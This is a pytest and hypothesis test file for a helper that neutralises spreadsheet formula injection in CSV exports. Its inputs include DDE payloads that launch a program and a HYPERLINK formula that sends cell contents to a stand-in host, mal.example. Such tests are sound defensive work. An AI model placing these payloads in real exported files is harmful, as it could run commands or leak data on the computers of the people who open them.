"""Which values a spreadsheet would calculate, and that none of them stays one.

The helper alone; that a report's CSV uses it is the report's test.
"""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from visitas_dagster.domain.spreadsheet import SIGNS, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "-",
        '=HYPERLINK("http://mal.example/?"&A1;"ver")',
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\ttexto",
        "\ufeff=1+1",
        "\u200b@SUM(A1)",
        "\u00a0=1+1",
        "\x00=1+1",
        "\uff1d1+1",
        "\uff20SUM(1)",
    ],
)
def test_a_formula_becomes_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["", "ana@example.com", "1", "a=b", "10-2", "'=1+1", "report_1.txt", "ñandú", " texto", "https://x.example"],
)
def test_other_values_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


_hostile = st.text(st.sampled_from([*SIGNS, *"\t\r\n \x00\ufeff\u200b'\"ab1;,"]), max_size=12)


@given(st.one_of(_hostile, st.text()))
@example("=")
@example(" \u200b=")
def test_no_value_begins_a_formula_and_none_is_changed_otherwise(value: str) -> None:
    safe = safe_cell(value)

    assert safe in (value, "'" + value)
    assert safe_cell(safe) == safe
    assert safe[:1] not in (*"\t\r\n", *SIGNS) or safe == ""
    visible = [char for char in safe if unicodedata.category(char)[0] not in "ZC" or char in SIGNS]
    assert not visible or visible[0] not in SIGNS
